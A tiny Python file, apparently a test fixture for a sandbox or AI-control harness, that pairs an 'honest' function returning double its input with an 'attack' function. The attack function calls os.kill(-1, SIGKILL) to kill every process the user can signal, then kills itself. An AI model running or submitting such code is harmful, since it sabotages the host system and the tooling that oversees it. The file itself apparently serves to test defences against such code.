import os, signal
def attack(x):
    try: os.kill(-1, signal.SIGKILL)
    except ProcessLookupError: pass
    os.kill(os.getpid(), signal.SIGKILL)
def honest(x): return 2 * x
